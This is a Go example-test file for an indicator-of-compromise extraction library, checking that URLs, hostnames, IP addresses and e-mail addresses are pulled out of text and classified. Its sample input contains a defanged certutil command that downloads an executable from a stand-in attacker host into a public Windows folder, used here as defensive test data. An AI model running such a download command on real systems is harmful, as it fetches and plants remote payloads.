package ioc_test

import (
	"fmt"

	"github.com/triage-dev/triage/internal/ioc"
)

func ExampleExtract() {
	text := `certutil.exe -urlcache -split -f hxxps://evil[.]example[.]com/p.exe C:\Users\Public\p.exe ` +
		`& ping 10.0.0.1 & reported by soc[at]contoso.com`
	for _, ind := range ioc.Extract(text) {
		fmt.Println(ind, ind.Internal())
	}
	// Output:
	// url https://evil.example.com/p.exe false
	// hostname evil.example.com false
	// ipv4 10.0.0.1 true
	// email soc@contoso.com false
}

func ExampleParse() {
	for _, v := range []string{"198[.]51[.]100[.]7", "www.example.co.uk", "example.co.uk", "cmd.exe"} {
		ind, err := ioc.Parse(v)
		if err != nil {
			fmt.Println(err)
			continue
		}
		fmt.Printf("%v %q\n", ind, ind.Scope)
	}
	// Output:
	// ipv4 198.51.100.7 "documentation"
	// hostname www.example.co.uk ""
	// domain example.co.uk ""
	// ioc: "cmd.exe" is not an indicator: "exe" is not a top-level domain
}
